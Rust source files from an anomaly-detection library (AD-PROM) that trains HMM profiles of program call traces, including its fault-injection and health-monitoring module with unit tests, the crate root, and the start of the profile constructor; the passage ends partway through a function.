            .with_registry(&reg_metrics);
        registry
            .register("bank", cyclic_profile("bank", -5.0))
            .unwrap();
        let epoch = registry.current("bank").unwrap();
        assert!(!epoch.kernel_status().fell_back());
        assert_eq!(
            reg_metrics.snapshot().counter("registry.kernel_fallbacks"),
            Some(0)
        );
    }

    #[test]
    fn load_file_round_trips_through_versioned_persistence() {
        let dir = std::env::temp_dir().join("adprom-registry-test");
        std::fs::create_dir_all(&dir).unwrap();
        let path = dir.join("bank.profile");
        cyclic_profile("bank", -5.0).save(&path).unwrap();

        let registry = ProfileRegistry::new();
        assert_eq!(registry.load_file("bank", &path).unwrap(), 1);
        assert_eq!(registry.current("bank").unwrap().profile().app_name, "bank");

        // A second load is a hot-swap: epoch 2.
        assert_eq!(registry.load_file("bank", &path).unwrap(), 2);

        // A missing file is a rejected swap; epoch 2 survives.
        let err = registry.load_file("bank", &dir.join("missing.profile"));
        assert!(matches!(err, Err(SwapError::Io(_))));
        assert_eq!(registry.current("bank").unwrap().epoch(), 2);
        assert_eq!(registry.health("bank").unwrap().state(), Health::Degraded);
        let _ = std::fs::remove_file(&path);
    }
}
