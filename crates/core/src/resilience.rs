//! Fault tolerance: deterministic fail points, the pipeline health state
//! machine, and retry policy.
//!
//! A protection system that dies under faults is itself the vulnerability
//! (the monitor guards the database exactly when things go wrong), so
//! every failure path in the pipeline must be *exercisable on demand*.
//! [`FaultPlan`] describes a deterministic, seedable set of faults —
//! which [`FaultKind`] fires at which named site, for which keys — and
//! arms into a [`FaultInjector`] handing out per-site [`FailPoint`]
//! handles. The discipline mirrors the obs
//! [`Registry`](adprom_obs::Registry): a handle from a disabled plan is a
//! `None` and every probe costs a single branch, so fail points stay in
//! hot paths permanently (benchmarked by `benches/obs.rs`).
//!
//! Decisions are keyed (typically by trace index), never by wall clock or
//! thread interleaving, so a fault schedule replays identically at any
//! thread count — the property the `tests/resilience.rs` suite leans on
//! to assert that non-quarantined traces score bit-identically to a
//! fault-free run.
//!
//! [`HealthMonitor`] is the monotonic Healthy → Degraded → Failed state
//! machine the detector surfaces through telemetry (`health.state`), and
//! [`RetryPolicy`] bounds the per-trace retry/backoff/watchdog behavior
//! of [`BatchDetector`](crate::parallel::BatchDetector).

use adprom_obs::{Gauge, Registry};
use adprom_trace::CallEvent;
use std::collections::{BTreeSet, HashMap};
use std::io::Write;
use std::sync::atomic::{AtomicU64, AtomicU8, Ordering};
use std::sync::{Arc, Mutex};
use std::time::Duration;

/// Well-known fail-point site names.
pub mod sites {
    /// Panic a worker inside [`BatchDetector`](crate::parallel::BatchDetector)
    /// before it scores a trace (keyed by trace index).
    pub const WORKER_PANIC: &str = "batch.worker_panic";
    /// Delay a worker's scoring pass (keyed by trace index).
    pub const SLOW_SCORE: &str = "batch.slow_score";
    /// Corrupt one event of a trace during ingest (keyed by trace index).
    pub const INGEST_CORRUPT: &str = "ingest.corrupt_event";
    /// Truncate a trace to half its length during ingest.
    pub const INGEST_TRUNCATE: &str = "ingest.truncate_trace";
    /// Swap two adjacent events during ingest.
    pub const INGEST_REORDER: &str = "ingest.reorder_events";
    /// Fail an audit/profile write with an I/O error (keyed by write
    /// ordinal, via [`FaultyWriter`](super::FaultyWriter)).
    pub const AUDIT_IO: &str = "audit.io_error";
    /// Panic a [`MonitorRuntime`](crate::runtime::MonitorRuntime) session
    /// worker mid-flush — exercises hot-swap-while-scoring (keyed by the
    /// session's arrival index).
    pub const MONITOR_SWAP: &str = "monitor.swap_mid_stream";
    /// Force-evict the keyed session from the runtime's session table, as
    /// if table pressure had reclaimed it (keyed by arrival index).
    pub const MONITOR_PRESSURE: &str = "monitor.session_pressure";
    /// Treat the runtime's bounded ingest queue as full for the keyed
    /// event (keyed by ingest tick) — exercises the backpressure/shed
    /// path without actually filling the queue.
    pub const MONITOR_QUEUE_OVERFLOW: &str = "monitor.queue_overflow";
}

/// What a fail point does when it fires.
#[derive(Debug, Clone, Copy, PartialEq)]
pub enum FaultKind {
    /// Panic the calling thread (payload contains `fault-injected`).
    Panic,
    /// Return an I/O error from a [`FaultyWriter`].
    IoError,
    /// Sleep for this many milliseconds (a stuck/slow score).
    SlowScore {
        /// Injected delay.
        millis: u64,
    },
    /// Corrupt one event of the keyed trace (control byte + malformed
    /// DDG label — caught by ingest validation).
    CorruptEvent,
    /// Drop the second half of the keyed trace.
    TruncateTrace,
    /// Swap the keyed trace's first two events.
    ReorderEvents,
    /// Evict the keyed session from the runtime's session table (as table
    /// pressure would), forcing it to finish early.
    EvictSession,
    /// Report the runtime's bounded ingest queue as full for the keyed
    /// event, forcing the configured overload response (backpressure
    /// flush or shed) as a real capacity hit would.
    QueueOverflow,
}

/// When a fail point fires.
#[derive(Debug, Clone)]
pub enum Trigger {
    /// Every probe.
    Always,
    /// The first probe at the site, ever.
    Once,
    /// The first probe for each listed key — retries of the same key do
    /// not re-fire, which is how injected panics stay recoverable.
    OnceForKeys(BTreeSet<u64>),
    /// Every `n`-th probe at the site (hit-counter based).
    EveryNth(u64),
    /// Pseudo-random per `(site, key, occurrence)`: fires with this
    /// probability, derived from the plan seed — deterministic across
    /// runs and thread interleavings.
    Ratio(f64),
}

/// One configured fault.
#[derive(Debug, Clone)]
struct FaultSpec {
    kind: FaultKind,
    trigger: Trigger,
    fired: AtomicU64Box,
}

/// `AtomicU64` behind a `Clone` (fresh counter per clone — specs are only
/// cloned while building, before arming).
#[derive(Debug, Default)]
struct AtomicU64Box(AtomicU64);

impl Clone for AtomicU64Box {
    fn clone(&self) -> AtomicU64Box {
        AtomicU64Box(AtomicU64::new(self.0.load(Ordering::Relaxed)))
    }
}

/// A deterministic, seedable fault schedule. Build with
/// [`FaultPlan::new`] + [`inject`](FaultPlan::inject), then
/// [`arm`](FaultPlan::arm) it into a [`FaultInjector`].
#[derive(Debug, Clone, Default)]
pub struct FaultPlan {
    seed: u64,
    specs: Vec<(String, FaultSpec)>,
}

impl FaultPlan {
    /// An empty plan with a seed for [`Trigger::Ratio`] decisions.
    pub fn new(seed: u64) -> FaultPlan {
        FaultPlan {
            seed,
            specs: Vec::new(),
        }
    }

    /// The no-fault plan: arming it yields disabled handles.
    pub fn disabled() -> FaultPlan {
        FaultPlan::default()
    }

    /// Adds a fault at `site`.
    pub fn inject(mut self, site: &str, kind: FaultKind, trigger: Trigger) -> FaultPlan {
        self.specs.push((
            site.to_string(),
            FaultSpec {
                kind,
                trigger,
                fired: AtomicU64Box::default(),
            },
        ));
        self
    }

    /// Resolves the plan into per-site state. An empty plan arms to a
    /// disabled injector whose handles are all `None`.
    pub fn arm(&self) -> FaultInjector {
        if self.specs.is_empty() {
            return FaultInjector { sites: None };
        }
        let mut sites: HashMap<String, Arc<SiteState>> = HashMap::new();
        for (site, spec) in &self.specs {
            let state = sites.entry(site.clone()).or_insert_with(|| {
                Arc::new(SiteState {
                    seed: self.seed ^ splitmix64(hash_str(site)),
                    specs: Mutex::new(Vec::new()),
                    hits: AtomicU64::new(0),
                    injected: AtomicU64::new(0),
                    per_key: Mutex::new(HashMap::new()),
                })
            });
            state
                .specs
                .lock()
                .expect("plan poisoned")
                .push(spec.clone());
        }
        FaultInjector {
            sites: Some(Arc::new(sites)),
        }
    }
}

/// Armed per-site fault state.
#[derive(Debug)]
struct SiteState {
    seed: u64,
    specs: Mutex<Vec<FaultSpec>>,
    hits: AtomicU64,
    injected: AtomicU64,
    /// Probe count per `(spec index, key)` — drives [`Trigger::OnceForKeys`]
    /// and the occurrence term of [`Trigger::Ratio`]. Enabled-only cost.
    per_key: Mutex<HashMap<(usize, u64), u64>>,
}

impl SiteState {
    fn fire(self: &Arc<SiteState>, key: u64) -> Option<FaultKind> {
        let hit = self.hits.fetch_add(1, Ordering::Relaxed);
        let specs = self.specs.lock().expect("site poisoned");
        for (si, spec) in specs.iter().enumerate() {
            let occurrence = {
                let mut per_key = self.per_key.lock().expect("site poisoned");
                let slot = per_key.entry((si, key)).or_insert(0);
                let occ = *slot;
                *slot += 1;
                occ
            };
            let fires = match &spec.trigger {
                Trigger::Always => true,
                Trigger::Once => spec.fired.0.load(Ordering::Relaxed) == 0,
                Trigger::OnceForKeys(keys) => keys.contains(&key) && occurrence == 0,
                Trigger::EveryNth(n) => *n > 0 && hit.is_multiple_of(*n),
                Trigger::Ratio(p) => {
                    let h = splitmix64(
                        self.seed ^ key.wrapping_mul(0x9E37_79B9_7F4A_7C15) ^ occurrence,
                    );
                    ((h >> 11) as f64 / (1u64 << 53) as f64) < *p
                }
            };
            if fires {
                spec.fired.0.fetch_add(1, Ordering::Relaxed);
                self.injected.fetch_add(1, Ordering::Relaxed);
                return Some(spec.kind);
            }
        }
        None
    }
}

/// FNV-1a over a site name (stable across runs).
fn hash_str(s: &str) -> u64 {
    let mut h = 0xCBF2_9CE4_8422_2325u64;
    for b in s.bytes() {
        h ^= b as u64;
        h = h.wrapping_mul(0x0000_0100_0000_01B3);
    }
    h
}

/// splitmix64 finalizer — the plan's deterministic bit mixer.
fn splitmix64(mut x: u64) -> u64 {
    x = x.wrapping_add(0x9E37_79B9_7F4A_7C15);
    x = (x ^ (x >> 30)).wrapping_mul(0xBF58_476D_1CE4_E5B9);
    x = (x ^ (x >> 27)).wrapping_mul(0x94D0_49BB_1331_11EB);
    x ^ (x >> 31)
}

/// An armed fault schedule; hands out [`FailPoint`] handles.
#[derive(Debug, Clone, Default)]
pub struct FaultInjector {
    sites: Option<Arc<HashMap<String, Arc<SiteState>>>>,
}

impl FaultInjector {
    /// The always-disabled injector (what production code holds).
    pub fn disabled() -> FaultInjector {
        FaultInjector::default()
    }

    /// The handle for `site` — disabled (`None` inside, single-branch
    /// probes) when the plan has no fault there. Acquire once, outside
    /// hot loops, like a metrics handle.
    pub fn point(&self, site: &str) -> FailPoint {
        FailPoint(
            self.sites
                .as_ref()
                .and_then(|sites| sites.get(site).cloned()),
        )
    }

    /// Faults injected at `site` so far.
    pub fn injected(&self, site: &str) -> u64 {
        self.sites
            .as_ref()
            .and_then(|sites| sites.get(site))
            .map_or(0, |s| s.injected.load(Ordering::Relaxed))
    }

    /// Total faults injected across all sites.
    pub fn total_injected(&self) -> u64 {
        self.sites.as_ref().map_or(0, |sites| {
            sites
                .values()
                .map(|s| s.injected.load(Ordering::Relaxed))
                .sum()
        })
    }
}

/// A per-site fail-point handle. Disabled handles (the default, and
/// everything an empty plan arms) probe with a single `None` branch —
/// the same zero-overhead discipline as [`adprom_obs::Counter`].
#[derive(Debug, Clone, Default)]
pub struct FailPoint(Option<Arc<SiteState>>);

impl FailPoint {
    /// A handle that never fires.
    pub fn disabled() -> FailPoint {
        FailPoint(None)
    }

    /// Probes the fail point for `key` (e.g. a trace index). Returns the
    /// fault to apply, or `None`.
    #[inline]
    pub fn fire(&self, key: u64) -> Option<FaultKind> {
        match &self.0 {
            None => None,
            Some(site) => site.fire(key),
        }
    }

    /// True when a fault is configured at this site.
    pub fn is_armed(&self) -> bool {
        self.0.is_some()
    }
}

/// Applies the ingest-site faults of an armed plan to a batch in place
/// (keyed by trace index): [`FaultKind::CorruptEvent`] mangles one event
/// name (control byte + malformed label — ingest validation quarantines
/// the trace), [`FaultKind::TruncateTrace`] halves the trace (degrades to
/// shorter windows), [`FaultKind::ReorderEvents`] swaps the first two
/// events. Returns the number of faults applied.
pub fn apply_ingest_faults(injector: &FaultInjector, traces: &mut [Vec<CallEvent>]) -> u64 {
    let corrupt = injector.point(sites::INGEST_CORRUPT);
    let truncate = injector.point(sites::INGEST_TRUNCATE);
    let reorder = injector.point(sites::INGEST_REORDER);
    if !corrupt.is_armed() && !truncate.is_armed() && !reorder.is_armed() {
        return 0;
    }
    let mut applied = 0u64;
    for (index, trace) in traces.iter_mut().enumerate() {
        let key = index as u64;
        if matches!(corrupt.fire(key), Some(FaultKind::CorruptEvent)) && !trace.is_empty() {
            let victim = (splitmix64(key) as usize) % trace.len();
            trace[victim].name = format!("{}\u{1}_Qxx", trace[victim].name).into();
            applied += 1;
        }
        if matches!(truncate.fire(key), Some(FaultKind::TruncateTrace)) {
            let keep = trace.len() / 2;
            trace.truncate(keep);
            applied += 1;
        }
        if matches!(reorder.fire(key), Some(FaultKind::ReorderEvents)) && trace.len() >= 2 {
            trace.swap(0, 1);
            applied += 1;
        }
    }
    applied
}

/// A `Write` adapter that consults a fail point before every write —
/// deterministic disk-failure injection for audit sinks and profile
/// saves (site [`sites::AUDIT_IO`], keyed by write ordinal).
#[derive(Debug)]
pub struct FaultyWriter<W> {
    inner: W,
    point: FailPoint,
    writes: u64,
}

impl<W: Write> FaultyWriter<W> {
    /// Wraps `inner`; `point` decides which writes fail.
    pub fn new(inner: W, point: FailPoint) -> FaultyWriter<W> {
        FaultyWriter {
            inner,
            point,
            writes: 0,
        }
    }

    /// Unwraps the inner writer.
    pub fn into_inner(self) -> W {
        self.inner
    }
}

impl<W: Write> Write for FaultyWriter<W> {
    fn write(&mut self, buf: &[u8]) -> std::io::Result<usize> {
        let key = self.writes;
        self.writes += 1;
        if matches!(self.point.fire(key), Some(FaultKind::IoError)) {
            return Err(std::io::Error::other("fault-injected io error"));
        }
        self.inner.write(buf)
    }

    fn flush(&mut self) -> std::io::Result<()> {
        self.inner.flush()
    }
}

/// Pipeline health, coarsest first. Transitions are monotonic within a
/// run: recovered faults (retries, quarantines, kernel downgrades,
/// watchdog trips) reach `Degraded`; an unrecoverable trace reaches
/// `Failed`. [`HealthMonitor::reset`] re-arms between runs.
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord)]
pub enum Health {
    /// No faults observed.
    Healthy,
    /// Faults observed and absorbed; results remain trustworthy but the
    /// operator should look (reasons are recorded).
    Degraded,
    /// At least one trace could not be scored.
    Failed,
}

impl Health {
    /// Gauge encoding (`health.state`): 0 healthy, 1 degraded, 2 failed.
    pub fn as_gauge(self) -> i64 {
        match self {
            Health::Healthy => 0,
            Health::Degraded => 1,
            Health::Failed => 2,
        }
    }
}

impl std::fmt::Display for Health {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        match self {
            Health::Healthy => write!(f, "HEALTHY"),
            Health::Degraded => write!(f, "DEGRADED"),
            Health::Failed => write!(f, "FAILED"),
        }
    }
}

#[derive(Debug, Default)]
struct HealthInner {
    /// `Health::as_gauge` encoding.
    state: AtomicU8,
    reasons: Mutex<Vec<String>>,
}

/// Shared, thread-safe health state machine. Clones share state (workers
/// report, the operator reads).
#[derive(Debug, Clone, Default)]
pub struct HealthMonitor {
    inner: Arc<HealthInner>,
    gauge: Gauge,
}

impl HealthMonitor {
    /// A healthy monitor with no telemetry.
    pub fn new() -> HealthMonitor {
        HealthMonitor::default()
    }

    /// A monitor that mirrors its state into the `health.state` gauge.
    pub fn with_registry(registry: &Registry) -> HealthMonitor {
        let monitor = HealthMonitor {
            inner: Arc::new(HealthInner::default()),
            gauge: registry.gauge("health.state"),
        };
        monitor.gauge.set(0);
        monitor
    }

    /// Current state.
    pub fn state(&self) -> Health {
        match self.inner.state.load(Ordering::Relaxed) {
            0 => Health::Healthy,
            1 => Health::Degraded,
            _ => Health::Failed,
        }
    }

    /// Records an absorbed fault; raises the state to at least Degraded.
    /// Returns true when the state actually rose (false on a repeat
    /// absorb in the same or a higher state, which records the reason but
    /// re-emits nothing).
    pub fn degrade(&self, reason: &str) -> bool {
        self.transition(Health::Degraded, reason)
    }

    /// Records an unrecoverable fault; raises the state to Failed.
    /// Returns true when the state actually rose.
    pub fn fail(&self, reason: &str) -> bool {
        self.transition(Health::Failed, reason)
    }

    /// Every reason recorded so far, in arrival order.
    pub fn reasons(&self) -> Vec<String> {
        self.inner.reasons.lock().expect("health poisoned").clone()
    }

    /// Returns to Healthy and clears the reasons (start of a new run).
    pub fn reset(&self) {
        self.inner.state.store(0, Ordering::Relaxed);
        self.inner.reasons.lock().expect("health poisoned").clear();
        self.gauge.set(0);
    }

    fn transition(&self, to: Health, reason: &str) -> bool {
        let prev = self
            .inner
            .state
            .fetch_max(to.as_gauge() as u8, Ordering::Relaxed);
        let rose = prev < to.as_gauge() as u8;
        // Touch the gauge only on a genuine rise: repeated same-state
        // absorbs must not re-emit `health.state` transitions.
        if rose {
            self.gauge.record_max(to.as_gauge());
        }
        let mut reasons = self.inner.reasons.lock().expect("health poisoned");
        // Bounded: a fault storm must not turn the monitor into a leak.
        if reasons.len() < 256 {
            reasons.push(reason.to_string());
        }
        rose
    }
}

/// Bounded retry behavior for [`BatchDetector`](crate::parallel::BatchDetector)
/// workers.
#[derive(Debug, Clone, Copy)]
pub struct RetryPolicy {
    /// Re-attempts after a panicked scoring pass (0 disables retry).
    pub max_retries: u32,
    /// Sleep before retry `k` is `backoff · 2^(k−1)`.
    pub backoff: Duration,
    /// Per-trace wall-clock budget; exceeding it trips the watchdog
    /// (recorded + degrades health; the result is still returned).
    pub watchdog: Option<Duration>,
}

impl Default for RetryPolicy {
    fn default() -> RetryPolicy {
        RetryPolicy {
            max_retries: 2,
            backoff: Duration::from_millis(5),
            watchdog: None,
        }
    }
}

impl RetryPolicy {
    /// No retries, no watchdog — every panic is terminal for its trace.
    pub fn none() -> RetryPolicy {
        RetryPolicy {
            max_retries: 0,
            backoff: Duration::ZERO,
            watchdog: None,
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn disabled_injector_hands_out_disabled_points() {
        let injector = FaultPlan::disabled().arm();
        let point = injector.point(sites::WORKER_PANIC);
        assert!(!point.is_armed());
        assert_eq!(point.fire(0), None);
        assert_eq!(injector.total_injected(), 0);
    }

    #[test]
    fn once_for_keys_fires_once_per_key() {
        let plan = FaultPlan::new(7).inject(
            sites::WORKER_PANIC,
            FaultKind::Panic,
            Trigger::OnceForKeys([2u64, 5].into()),
        );
        let injector = plan.arm();
        let point = injector.point(sites::WORKER_PANIC);
        assert_eq!(point.fire(0), None);
        assert_eq!(point.fire(2), Some(FaultKind::Panic));
        // Retry of the same key does not re-fire.
        assert_eq!(point.fire(2), None);
        assert_eq!(point.fire(5), Some(FaultKind::Panic));
        assert_eq!(injector.injected(sites::WORKER_PANIC), 2);
    }

    #[test]
    fn ratio_trigger_is_deterministic_in_the_seed() {
        let fires = |seed: u64| -> Vec<u64> {
            let injector = FaultPlan::new(seed)
                .inject(
                    sites::SLOW_SCORE,
                    FaultKind::SlowScore { millis: 1 },
                    Trigger::Ratio(0.3),
                )
                .arm();
            let point = injector.point(sites::SLOW_SCORE);
            (0..64).filter(|&k| point.fire(k).is_some()).collect()
        };
        let a = fires(42);
        assert_eq!(a, fires(42), "same seed, same schedule");
        assert_ne!(a, fires(43), "different seed, different schedule");
        assert!(!a.is_empty() && a.len() < 40, "p=0.3 over 64 keys: {a:?}");
    }

    #[test]
    fn ingest_faults_mutate_only_keyed_traces() {
        use adprom_lang::{CallSiteId, LibCall};
        let event = |name: &str| CallEvent {
            name: name.into(),
            call: LibCall::Printf,
            caller: "main".into(),
            site: CallSiteId(0),
            detail: None,
        };
        let mut traces: Vec<Vec<CallEvent>> = (0..4)
            .map(|_| vec![event("a"), event("b"), event("c"), event("d")])
            .collect();
        let injector = FaultPlan::new(1)
            .inject(
                sites::INGEST_CORRUPT,
                FaultKind::CorruptEvent,
                Trigger::OnceForKeys([1u64].into()),
            )
            .inject(
                sites::INGEST_TRUNCATE,
                FaultKind::TruncateTrace,
                Trigger::OnceForKeys([3u64].into()),
            )
            .arm();
        let applied = apply_ingest_faults(&injector, &mut traces);
        assert_eq!(applied, 2);
        assert_eq!(traces[0].len(), 4, "untouched");
        assert!(
            traces[1].iter().any(|e| e.name.contains('\u{1}')),
            "corrupted"
        );
        assert_eq!(traces[3].len(), 2, "truncated");
    }

    #[test]
    fn faulty_writer_fails_keyed_writes() {
        let injector = FaultPlan::new(0)
            .inject(
                sites::AUDIT_IO,
                FaultKind::IoError,
                Trigger::OnceForKeys([1u64].into()),
            )
            .arm();
        let mut writer = FaultyWriter::new(Vec::new(), injector.point(sites::AUDIT_IO));
        assert!(writer.write(b"first").is_ok());
        assert!(writer.write(b"second").is_err());
        assert!(writer.write(b"third").is_ok());
        assert_eq!(writer.into_inner(), b"firstthird");
    }

    #[test]
    fn health_transitions_are_monotonic() {
        let health = HealthMonitor::new();
        assert_eq!(health.state(), Health::Healthy);
        health.degrade("retry");
        assert_eq!(health.state(), Health::Degraded);
        health.fail("trace 3 unrecoverable");
        assert_eq!(health.state(), Health::Failed);
        // A later degrade cannot lower the state.
        health.degrade("quarantine");
        assert_eq!(health.state(), Health::Failed);
        assert_eq!(health.reasons().len(), 3);
        health.reset();
        assert_eq!(health.state(), Health::Healthy);
        assert!(health.reasons().is_empty());
    }

    #[test]
    fn health_gauge_tracks_state() {
        let registry = Registry::new();
        let health = HealthMonitor::with_registry(&registry);
        health.degrade("x");
        assert_eq!(registry.snapshot().gauge("health.state"), Some(1));
        let clone = health.clone();
        clone.fail("y");
        assert_eq!(health.state(), Health::Failed);
        assert_eq!(registry.snapshot().gauge("health.state"), Some(2));
    }

    #[test]
    fn reset_rearms_monotonic_ladder_between_runs() {
        let registry = Registry::new();
        let health = HealthMonitor::with_registry(&registry);
        assert!(health.fail("run 1 fatal"));
        assert_eq!(registry.snapshot().gauge("health.state"), Some(2));
        health.reset();
        assert_eq!(health.state(), Health::Healthy);
        assert_eq!(registry.snapshot().gauge("health.state"), Some(0));
        // The ladder is re-armed: the same climb fires again from the
        // bottom, not swallowed by the previous run's Failed state.
        assert!(health.degrade("run 2 absorb"));
        assert_eq!(health.state(), Health::Degraded);
        assert_eq!(registry.snapshot().gauge("health.state"), Some(1));
        assert!(health.fail("run 2 fatal"));
        assert_eq!(registry.snapshot().gauge("health.state"), Some(2));
        assert_eq!(health.reasons(), vec!["run 2 absorb", "run 2 fatal"]);
    }

    #[test]
    fn repeated_same_state_absorbs_do_not_reemit_gauge() {
        let registry = Registry::new();
        let health = HealthMonitor::with_registry(&registry);
        assert!(health.degrade("first absorb"), "rise emits");
        assert!(!health.degrade("second absorb"), "repeat does not");
        assert!(!health.degrade("third absorb"));
        // Reasons still accumulate — only the gauge transition is
        // deduplicated.
        assert_eq!(health.reasons().len(), 3);
        assert_eq!(registry.snapshot().gauge("health.state"), Some(1));
        assert!(health.fail("escalate"), "a genuine rise still emits");
        assert!(!health.degrade("late absorb"), "below current state");
        assert_eq!(registry.snapshot().gauge("health.state"), Some(2));
    }
}
