//! # adprom-core
//!
//! AD-PROM proper: the Profile Constructor and Detection Engine from the
//! ICDE 2020 paper, assembled over the analysis, HMM, ML and trace
//! substrates.
//!
//! Training phase (§IV-C): [`constructor::build_profile`] takes the static
//! [`Analysis`](adprom_analysis::Analysis) and the collected training
//! traces, initializes an HMM from the pCTM ([`init`]) — with CTV → PCA →
//! k-means state reduction for large programs — trains it with Baum–Welch
//! under CSDS convergence, and selects a detection threshold by
//! cross-validation ([`threshold`]).
//!
//! Detection phase (§IV-D): [`detect::DetectionEngine`] scores n-length
//! call windows and raises the paper's four flags (Normal / Anomalous /
//! DataLeak / OutOfContext); [`detect::OnlineDetector`] does the same
//! streaming, as a [`CallSink`](adprom_trace::CallSink). For monitoring
//! many sessions at once, [`parallel::BatchDetector`] fans independent
//! traces across a thread pool (deterministic, input-order output) and can
//! score windows incrementally via
//! [`SlidingForward`](adprom_hmm::SlidingForward).
//!
//! Baselines (§V): [`baselines::build_cmarkov`] (static init, no data-flow
//! labels, no caller tracking) and [`baselines::build_rand_hmm`] (random
//! init). Metrics for the evaluation harnesses live in [`metrics`].

#![warn(missing_docs)]

pub mod alphabet;
pub mod baselines;
pub mod constructor;
pub mod detect;
pub mod extensions;
pub mod init;
pub mod metrics;
pub mod parallel;
pub mod profile;
pub mod registry;
pub mod resilience;
pub mod runtime;
pub mod scorer;
pub mod shard;
pub mod telemetry;
pub mod threshold;
pub mod wire;

pub use adprom_hmm::Precision;
pub use alphabet::{Alphabet, UNKNOWN};
pub use baselines::{build_cmarkov, build_rand_hmm, strip_ctm, strip_label, strip_trace};
pub use constructor::{build_profile, trace_windows, BuildReport, ConstructorConfig};
pub use detect::{Alert, DetectionEngine, Flag, KernelConfig, OnlineDetector};
pub use extensions::{ExtensionAlert, ExtensionKind, FileLabelMonitor, QuerySignatureMonitor};
pub use init::{build_ctvs, init_from_pctm, InitConfig, InitializedModel};
pub use metrics::{fn_rate_at_fp, roc_curve, Confusion, RocPoint};
pub use parallel::{BatchDetector, ScoringMode, TraceReport, TraceStatus};
pub use profile::{LoadPolicy, Profile, ProfileDefect, ProfileIoError};
pub use registry::{ProfileEpoch, ProfileRegistry, SwapError};
pub use resilience::{
    apply_ingest_faults, FailPoint, FaultInjector, FaultKind, FaultPlan, FaultyWriter, Health,
    HealthMonitor, RetryPolicy, Trigger,
};
pub use runtime::{
    fnv1a, IngestStatus, MonitorRuntime, OverloadConfig, RuntimeConfig, SessionEnd, SessionReport,
    ShedPolicy,
};
pub use scorer::{ForensicsConfig, KernelStatus, ScoringTier, SessionScorer, WindowScorer};
pub use shard::{
    partition_stream, shard_for, verdict_partition, FrameIngest, ServiceCommand, ServiceResponse,
    ShardStatus, ShardTally, ShardedMonitor,
};
pub use telemetry::{
    audit_record_from_alert, BatchMetrics, DetectMetrics, MonitorMetrics, RegistryMetrics,
    ResilienceMetrics, ShardMetrics,
};
pub use threshold::{select_threshold, threshold_sweep, AdaptiveThreshold};
pub use wire::{
    decode_frames, encode_frame, encode_frame_into, encode_stream, FrameDecoder, FrameDefect,
    WireError, WireRecord, WIRE_HEADER, WIRE_MAGIC,
};
