//! The Profile Constructor (§IV-B3): turns the static analysis and the
//! training traces into a trained [`Profile`].
//!
//! Dataset handling follows §V-B: all windows derived from the test-case
//! traces are *Normal-sequences*; about 1/5 is held aside as the converge
//! sub-dataset (CSDS) that decides when Baum–Welch training stops; the
//! remaining 4/5 trains the model and — via 10-fold cross-validation —
//! selects the detection threshold.

use crate::alphabet::Alphabet;
use crate::init::{init_from_pctm, InitConfig, InitializedModel};
use crate::profile::Profile;
use crate::threshold::select_threshold;
use adprom_analysis::Analysis;
use adprom_hmm::{train, TrainConfig, TrainReport};
use adprom_obs::Registry;
use adprom_trace::{sliding_windows, CallEvent};
use rand::rngs::StdRng;
use rand::seq::SliceRandom;
use rand::SeedableRng;
use std::collections::{BTreeMap, BTreeSet};

/// Profile-construction configuration.
#[derive(Debug, Clone)]
pub struct ConstructorConfig {
    /// Window length n (paper: 15, from the 10–30 guidance of \[32\]).
    pub window: usize,
    /// HMM initialization settings.
    pub init: InitConfig,
    /// Baum–Welch settings.
    pub train: TrainConfig,
    /// Fraction of windows held out as the CSDS (paper: 1/5).
    pub csds_fraction: f64,
    /// Cross-validation folds for threshold selection (paper: 10).
    pub folds: usize,
    /// Quantile of normal validation scores used as the threshold base.
    pub threshold_quantile: f64,
    /// Margin subtracted below the quantile score.
    pub threshold_margin: f64,
    /// Shuffling seed for the dataset partition.
    pub seed: u64,
    /// After training, transition entries below this value are flattened
    /// to their per-row mean ([`adprom_hmm::Hmm::flatten_floor`]), so the
    /// sparse scoring kernel sees a bit-exact per-row background again
    /// (Baum–Welch perturbs the smoothing floor by per-entry dust).
    /// `0.0` (the default) disables flattening — the trained model is
    /// untouched. The threshold is selected from the *flattened* model, so
    /// detection and thresholding always see the same distribution.
    pub flatten_epsilon: f64,
    /// Metrics registry for training telemetry (`train.*`). Defaults to
    /// the disabled registry, so construction stays uninstrumented unless
    /// a live one is provided.
    pub registry: Registry,
}

impl Default for ConstructorConfig {
    fn default() -> ConstructorConfig {
        ConstructorConfig {
            window: 15,
            init: InitConfig::default(),
            train: TrainConfig::default(),
            csds_fraction: 0.2,
            folds: 10,
            threshold_quantile: 0.005,
            // 1.5 nats below the quantile base: wide enough to absorb
            // benign-but-rare windows (short single-op sessions sit ~0.1
            // nat under a 1.0 margin) while attacks score >10 nats lower.
            threshold_margin: 1.5,
            seed: 0xADB0,
            flatten_epsilon: 0.0,
            registry: Registry::default(),
        }
    }
}

/// Construction report (experiment bookkeeping).
#[derive(Debug, Clone)]
pub struct BuildReport {
    /// Total windows derived from the traces.
    pub total_windows: usize,
    /// Windows in the CSDS.
    pub csds_windows: usize,
    /// Baum–Welch outcome.
    pub train_report: TrainReport,
    /// Whether CTV/PCA/k-means reduction ran and the state counts.
    pub reduced: bool,
    /// Hidden states before reduction.
    pub states_before: usize,
    /// Hidden states after reduction (== before when not reduced).
    pub states_after: usize,
    /// The selected threshold.
    pub threshold: f64,
    /// Mean normal-window log-likelihood on the validation folds.
    pub mean_normal_score: f64,
}

/// Records Baum–Welch telemetry: iteration count, convergence, and the
/// per-iteration improvement of the held-out (CSDS) log-likelihood.
/// Improvements are histogrammed in micro-nats (`Δll × 10⁶`, floored at
/// 0) because histograms store integer samples.
fn record_train_telemetry(registry: &Registry, report: &TrainReport) {
    if !registry.is_enabled() {
        return;
    }
    registry
        .counter("train.iterations")
        .add(report.iterations as u64);
    registry
        .gauge("train.converged")
        .set(i64::from(report.converged));
    let delta = registry.histogram("train.holdout_ll_delta_micronats");
    for pair in report.holdout_curve.windows(2) {
        let improvement = ((pair[1] - pair[0]) * 1e6).max(0.0);
        delta.record(improvement as u64);
    }
}

/// Builds windows (label sequences) from raw traces.
pub fn trace_windows(traces: &[Vec<CallEvent>], window: usize) -> Vec<Vec<String>> {
    let mut out = Vec::new();
    for t in traces {
        let names: Vec<String> = t.iter().map(|e| e.name.to_string()).collect();
        out.extend(sliding_windows(&names, window));
    }
    out
}

/// Builds a trained profile from the analysis and training traces.
pub fn build_profile(
    app_name: &str,
    analysis: &Analysis,
    traces: &[Vec<CallEvent>],
    config: &ConstructorConfig,
) -> (Profile, BuildReport) {
    // Alphabet: statically-known labels plus anything observed in traces
    // (dynamic behaviour may exercise labels statics alone would miss).
